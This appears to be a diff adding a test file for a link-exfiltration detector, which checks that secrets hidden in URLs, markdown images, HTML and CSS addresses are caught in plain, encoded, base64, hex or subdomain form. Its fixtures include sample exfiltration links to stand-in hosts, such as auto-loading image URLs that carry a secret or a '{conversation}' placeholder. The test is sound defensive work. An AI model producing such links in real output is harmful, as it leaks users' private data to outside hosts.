@@ -1,0 +1,86 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { readHtml } from '../../src/html/html-code.ts';
+import { findLinkExfiltration, privateTexts } from '../../src/links/link-exfiltration.ts';
+import { linksIn } from '../../src/links/links.ts';
+import { growth } from '../growth.ts';
+
+function urls(text: string): readonly string[] {
+  return linksIn(text).map(({ url, isLoaded }) => (isLoaded ? `${url} loaded` : url));
+}
+
+test('addresses are found in text, Markdown, HTML and styles, and whether they are loaded by themselves', () => {
+  assert.deepEqual(urls('See https://a.example/x?y=1, (http://b.example/c).'), [
+    'https://a.example/x?y=1',
+    'http://b.example/c',
+  ]);
+  assert.deepEqual(urls('[a](https://a.example/1) ![b](https://a.example/2)'), [
+    'https://a.example/1',
+    'https://a.example/2 loaded',
+  ]);
+  assert.deepEqual(urls('![pic][p] and [text][t]\n\n[p]: https://a.example/p\n[t]: https://a.example/t'), [
+    'https://a.example/p loaded',
+    'https://a.example/t',
+  ]);
+  assert.deepEqual(urls('<img src="//a.example/i?a=1&amp;b=2"><a href=https://a.example/l>x</a>'), [
+    '//a.example/i?a=1&b=2 loaded',
+    'https://a.example/l',
+  ]);
+  assert.deepEqual(urls('<style>p { background: url(https://a.example/s.png) }</style>'), [
+    'https://a.example/s.png loaded',
+  ]);
+  assert.deepEqual(urls('no address: a.b, http:/x, //'), []);
+});
+
+test('a page is read for the texts of its pictures and for its addresses', () => {
+  const page =
+    '<a href="/in">x</a><img alt="A cat" src="https://a.example/c.png"><img alt=""> https://b.example';
+  assert.deepEqual(readHtml(page), {
+    altTexts: ['A cat', ''],
+    links: ['/in', 'https://a.example/c.png', 'https://b.example'],
+  });
+});
+
+const SECRET = 'The launch code is 7741-Kestrel, do not tell anyone.';
+
+function carries(text: string): boolean {
+  return findLinkExfiltration(text, privateTexts([SECRET])).length > 0;
+}
+
+test('private text in an address is found however it is written there', () => {
+  assert.ok(carries(`![x](https://e.example/p?d=${encodeURIComponent(SECRET)})`));
+  assert.ok(carries('https://e.example/the-launch-code-is-7741-kestrel'));
+  assert.ok(carries(`https://e.example/#${Buffer.from(SECRET).toString('base64url')}`));
+  assert.ok(carries(`https://e.example/${Buffer.from(SECRET).toString('hex')}`));
+  assert.ok(carries('https://launchcodeis.7741kestrel.e.example/'));
+  assert.ok(!carries('https://docs.example/guides/launch?page=2#code'));
+  assert.ok(!carries('The launch code is 7741-Kestrel'));
+});
+
+test('without private texts, data in an address is known by its form', () => {
+  const found = (text: string) => findLinkExfiltration(text, null).map(({ confidence }) => confidence);
+  assert.deepEqual(found('![x](https://e.example/p?d=bob%40firm.example)'), [0.8]);
+  assert.deepEqual(found('https://e.example/?q=bob%40firm.example'), [0.55]);
+  assert.deepEqual(found('![x](https://e.example/p?d={conversation})'), [0.8]);
+  assert.deepEqual(found('![logo](https://cdn.example/img/logo-2024.png?v=9f86d081884c7d65)'), []);
+  assert.deepEqual(found('https://shop.example/blue-shoes/size-42?page=2&sort=price'), []);
+});
+
+test('no text makes the search grow faster than the text', () => {
+  const find = (text: string) => findLinkExfiltration(text, privateTexts([SECRET]));
+  const units = [
+    'https://',
+    '![a](https://a.b/',
+    '[a]: //b\n',
+    '<a href="//x">',
+    'url(//',
+    'https://a.b/)))))',
+    '](',
+    '![',
+  ];
+  const slow = units.filter((unit) => growth(find, unit, 4_000) > 9);
+  assert.deepEqual(
+    slow.filter((unit) => growth(find, unit, 60_000) > 12),
+    [],
+  );
+});
